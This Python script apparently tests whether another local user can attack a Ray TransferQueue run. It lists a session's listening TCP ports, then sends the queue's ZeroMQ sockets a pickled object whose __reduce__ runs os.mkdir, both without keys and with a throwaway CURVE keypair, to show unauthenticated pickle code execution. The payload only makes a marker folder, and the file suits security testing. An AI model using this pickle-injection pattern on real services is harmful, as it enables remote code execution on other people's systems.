"""What another user of the machine can do to a run: see who listens, and send the transfer queue code to run.

As a program, ``stranger.py SESSION FOLDER``: look at the processes of a session, attack the queue's, and print as JSON
who listens and where the attack came through. Code that was run would leave a file in the folder.
"""

from __future__ import annotations

import json
import os
import pickle
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psutil
import zmq
from zmq.utils.monitor import recv_monitor_message

QUEUE_PROCESSES = ("ray::TransferQueue", "ray::SimpleStorage")


class Code:
    """Unpickling it makes a file."""

    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self._marker),)


def message(marker: Path) -> list[bytes]:
    """The frames of a message that TransferQueue unpickles."""
    return [b"\xc1\xfe\xed", pickle.dumps(Code(marker))]


def send_code(
    address: str,
    marker: Path,
    *,
    keys: tuple[bytes, bytes] | None = None,
    server_key: bytes | None = None,
    seconds: float = 10,
) -> bool:
    """Send a socket code to run; whether it was let through.

    Args:
        address: of the socket.
        marker: the folder that the code would make.
        keys: public and secret; None to come without.
        server_key: what the socket is to prove that it holds; the attacker's own key to have something to say.
        seconds: how long the socket may take to refuse.
    """
    with zmq.Context() as context, context.socket(zmq.DEALER) as socket:
        socket.linger = 0
        socket.setsockopt(zmq.IDENTITY, b"TQ_STORAGE_stranger")
        if keys is not None:
            socket.curve_publickey, socket.curve_secretkey = keys
            socket.curve_serverkey = server_key or keys[0]
        with socket.get_monitor_socket() as events:
            socket.connect(address)
            socket.send_multipart(message(marker))
            let_in = None
            while let_in is None and events.poll(seconds * 1000):
                event = zmq.Event(recv_monitor_message(events)["event"])
                if event == zmq.Event.HANDSHAKE_SUCCEEDED:
                    let_in = True
                elif event == zmq.Event.DISCONNECTED or "HANDSHAKE_FAILED" in event.name:
                    let_in = False
            socket.disable_monitor()
    assert let_in is not None, f"{address} does not answer"
    return let_in


def listeners(session: int) -> Iterator[tuple[str, str, int]]:
    """Name, address and port of every process of a session that listens on TCP."""
    for process in psutil.process_iter():
        try:
            if os.getsid(process.pid) != session:
                continue
            name = process.cmdline()[0]
            found = [connection.laddr for connection in process.net_connections("tcp") if connection.status == "LISTEN"]
        except (ProcessLookupError, IndexError, psutil.NoSuchProcess):
            continue
        yield from ((name, at.ip.removeprefix("::ffff:"), at.port) for at in found)


def main() -> None:
    """Look, attack, tell."""
    session, folder = int(sys.argv[1]), Path(sys.argv[2])
    listening = sorted(listeners(session))
    let_in = [
        (name, ip, port)
        for name, ip, port in listening
        if name.startswith(QUEUE_PROCESSES)
        for keys in (None, zmq.curve_keypair())
        if send_code(f"tcp://{ip}:{port}", folder / f"code-ran-at-{port}", keys=keys)
    ]
    print(json.dumps({"listening": listening, "let_in": let_in}))


if __name__ == "__main__":
    main()
